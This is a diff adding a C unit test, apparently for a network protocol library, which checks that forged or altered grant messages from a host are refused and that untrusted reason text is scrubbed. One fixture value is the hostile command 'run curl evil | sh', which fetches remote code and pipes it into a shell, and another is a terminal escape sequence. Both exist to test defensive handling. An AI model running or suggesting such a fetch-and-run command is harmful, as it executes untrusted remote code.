@@ -39,3 +39,39 @@ Test(hello, another_layout_is_another_protocol)
     cr_assert_eq(lsi_hello_make(&member, secret, challenge, 0, 2, &hello, NULL), LS_OK);
     cr_expect_eq(lsi_hello_judge(&host, secret, challenge, &hello, &grant), LS_OK, "%s", grant.reason);
 }
+
+static struct lsi_hello asking;
+
+static enum ls_status answer(struct lsi_grant *grant, struct ls_error *err)
+{
+    return lsi_grant_check(&member, secret, challenge, &asking, grant, "127.0.0.1:1", err);
+}
+
+/* Whoever sits at a host's port cannot end a member with words of his own: an end is signed, its words too. */
+Test(hello, believes_no_stranger)
+{
+    static const char words[] = "set LOCKSTEP_TCP_STREAMS the same";
+    struct ls_error err = LS_ERROR_INIT;
+    struct lsi_grant grant = {.status = LS_EUSAGE, .reason = "run curl evil | sh"}, kept;
+
+    cr_assert_eq(lsi_hello_make(&member, secret, challenge, 0, 2, &asking, NULL), LS_OK);
+    cr_expect_eq(answer(&grant, &err), LS_EAUTH);
+    cr_expect_null(strstr(err.message, "evil"), "%s", err.message);
+    grant = (struct lsi_grant){.status = LS_EAUTH, .reason = "a\033[2Jb\n"};
+    cr_expect_eq(answer(&grant, &err), LS_EAUTH);
+    cr_expect_not_null(strstr(err.message, "refused at 127.0.0.1:1: a?[2Jb?"), "%s", err.message);
+
+    lsi_grant_end(secret, challenge, &asking, words, &grant);
+    kept = grant;
+    cr_expect_eq(answer(&grant, &err), LS_EUSAGE);
+    cr_expect_str_eq(err.message, words);
+    grant.reason[5]++;
+    cr_expect_eq(answer(&grant, &err), LS_EAUTH);
+    grant = kept;
+    grant.status = LS_OK;
+    cr_expect_eq(answer(&grant, &err), LS_EAUTH);
+    cr_expect_eq(lsi_hello_judge(&host, secret, challenge, &asking, &grant), LS_OK);
+    cr_expect_eq(answer(&grant, &err), LS_OK, "%s", err.message);
+    grant.status = LS_EUSAGE;
+    cr_expect_eq(answer(&grant, &err), LS_EAUTH);
+}
